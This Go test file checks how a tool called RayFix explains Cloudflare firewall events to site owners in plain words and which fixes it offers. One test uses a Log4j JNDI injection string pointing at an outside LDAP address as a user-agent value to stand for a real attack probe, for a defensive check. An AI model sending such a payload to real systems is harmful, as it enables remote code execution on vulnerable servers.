package advice

import (
	"strings"
	"testing"
	"time"

	"rayfix/events"
	"rayfix/internal/ownertest"
	"rayfix/siteplan"
)

func event(action, source, ruleID, desc, ua, path string) *events.Event {
	return &events.Event{Datetime: time.Date(2026, 11, 28, 9, 0, 0, 0, time.UTC).Format(time.RFC3339), RayName: "8e2f0a1b2c3d4e99",
		Action: action, Source: source, RuleID: ruleID, Description: desc, ClientIP: "198.51.100.7", Country: "US", ASN: "14061",
		UserAgent: ua, Host: "demo-bakery.example", Method: "GET", Path: path}
}

func explain(st *siteplan.Site, ev *events.Event) *Lookup {
	l := &Lookup{Found: true, Event: ev}
	l.Explain(st)
	return l
}

// words that must never reach an owner: empty brackets, API codes, raw actions.
func assertWords(t *testing.T, text string) {
	t.Helper()
	for _, raw := range []string{"()", "_challenge", "uablock", "zonelockdown", "firewallManaged", "ratelimit (", "managed__"} {
		if strings.Contains(text, raw) {
			t.Errorf("%q in %q", raw, text)
		}
	}
}

// The owner's own exception let a Stripe webhook past a managed rule: that
// is not a block, and no fix is offered (one would switch the exception off).
func TestLetThroughIsNotABlock(t *testing.T) {
	_, _, st, _ := ownertest.Site(t)
	for _, action := range []string{"skip", "allow", "log", "bypass", "managed_challenge_interactive_solved", "jschallenge_solved", "managed_challenge_skipped"} {
		l := explain(st, event(action, "firewallManaged", "0ddba1100ddba1100ddba1100ddba110", "Skip the Log4j header rule for the Stripe webhook", "Stripe/1.0 (+https://stripe.com/docs/webhooks)", "/webhooks/stripe"))
		if len(l.Fixes) != 0 || strings.Contains(l.Explanation, "blocked") || !strings.Contains(l.Explanation, "The request was not stopped") {
			t.Errorf("%s: %q, %d fixes", action, l.Explanation, len(l.Fixes))
		}
		assertWords(t, l.Explanation)
	}
}

// IP Access rules are named by what they do and match, with their notes;
// a rule that already challenges is not offered "Challenge instead of block".
func TestIPAccessRuleInWords(t *testing.T) {
	_, _, st, _ := ownertest.Site(t)
	var id string
	for _, a := range st.AccessRules {
		if a.Configuration.Target == "asn" {
			id = a.ID
		}
	}
	if id == "" {
		t.Fatal("the demo has no network rule")
	}
	l := explain(st, event("block", "asn", id, "", "Mozilla/5.0", "/"))
	if !strings.Contains(l.Explanation, "the IP Access rule that blocks the network AS14061 (“Scrapers from a hosting company”) blocked") {
		t.Fatalf("%q", l.Explanation)
	}
	if len(l.Fixes) == 0 || l.Fixes[0].Label != "Challenge instead of block" {
		t.Fatalf("fixes %+v", l.Fixes)
	}
	assertWords(t, l.Explanation)
	for i := range st.AccessRules {
		if st.AccessRules[i].ID == id {
			st.AccessRules[i].Mode = "managed_challenge"
		}
	}
	l = explain(st, event("managed_challenge", "asn", id, "", "Mozilla/5.0", "/"))
	if !strings.Contains(l.Explanation, "challenges the network AS14061") || !strings.Contains(l.Explanation, "challenged a visitor") {
		t.Fatalf("%q", l.Explanation)
	}
	for _, f := range l.Fixes {
		if strings.Contains(f.Label, "Challenge instead") {
			t.Errorf("a rule that already challenges is offered %q", f.Label)
		}
	}
	assertWords(t, l.Explanation)
}

// Every other product is named in words.
func TestEveryEventSourceInWords(t *testing.T) {
	_, _, st, _ := ownertest.Site(t)
	for source, want := range map[string]string{"uaBlock": "User Agent Blocking", "zoneLockdown": "Zone Lockdown", "bic": "Browser Integrity Check",
		"hot": "Hotlink Protection", "securityLevel": "the Security Level", "l7ddos": "DDoS protection", "botFight": "Bot Fight Mode",
		"somethingNew": "a Cloudflare feature RayFix does not recognise"} {
		l := explain(st, event("block", source, "", "", "Mozilla/5.0", "/"))
		if !strings.Contains(l.Explanation, want) {
			t.Errorf("%s: %q", source, l.Explanation)
		}
		assertWords(t, l.Explanation)
	}
}

// A Log4j probe is a real attack: the explanation says the rule did its
// job, the managed rule is named by its description, and every fix carries
// a warning.
func TestRealAttackIsNotExemptedLightly(t *testing.T) {
	_, _, st, _ := ownertest.Site(t)
	var rulesetID string
	for ph, rs := range st.Sets {
		if strings.Contains(ph, "managed") && rs != nil {
			for _, r := range rs.Rules {
				if p, ok := r["action_parameters"].(map[string]any); ok && p["id"] != nil {
					rulesetID, _ = p["id"].(string)
				}
			}
		}
	}
	ev := event("block", "firewallManaged", "6b1cc72dff9746469d4695a474430f12", "Log4j Headers", "${jndi:ldap://203.0.113.9/a}", "/")
	ev.RulesetID = rulesetID
	l := explain(st, ev)
	if !strings.Contains(l.Explanation, "the managed rule “Log4j Headers”") || !strings.Contains(l.Explanation, "looks like a real attack") ||
		strings.Contains(l.Explanation, "6b1cc72d") {
		t.Fatalf("%q", l.Explanation)
	}
	for _, f := range l.Fixes {
		if f.Warning == "" || !strings.Contains(f.Label, "not recommended") {
			t.Errorf("fix without a warning: %+v", f)
		}
	}
	if rulesetID != "" && len(l.Fixes) == 0 {
		t.Error("no fixes at all, even behind a warning")
	}
}

// A fix is offered only where it gets the visitor past what stopped them:
// nothing gets past Bot Fight Mode but turning it off (said with its cost),
// nothing past DDoS protection; an Allow gets past the legacy products.
func TestProductFixesOnlyWhereTheyHelp(t *testing.T) {
	_, _, st, _ := ownertest.Site(t)
	labels := func(l *Lookup) string {
		var out []string
		for _, f := range l.Fixes {
			out = append(out, f.Label+"|"+f.Warning)
		}
		return strings.Join(out, "; ")
	}
	cases := map[string]struct{ fixes, says string }{
		"botFight":          {"Turn Bot Fight Mode off|This turns the bot check off for the whole site, for every visitor.", "No rule and no IP Access Allow can get a visitor past Bot Fight Mode"},
		"l7ddos":            {"", "cannot be changed from RayFix"},
		"uablock":           {"Allow this IP (an IP Access Allow rule)|", "User Agent Blocking"},
		"superBotFightMode": {"Let this IP skip Super Bot Fight Mode (a Skip rule)|", "Super Bot Fight Mode"},
		"apiShield":         {"", "RayFix has no fix to offer for this one"},
	}
	for src, want := range cases {
		l := explain(st, event("managed_challenge", src, "", "", "Mozilla/5.0", "/"))
		if got := labels(l); got != want.fixes || !strings.Contains(l.Explanation, want.says) {
			t.Errorf("%s: fixes %q, %q", src, got, l.Explanation)
		}
		assertWords(t, l.Explanation)
	}
}
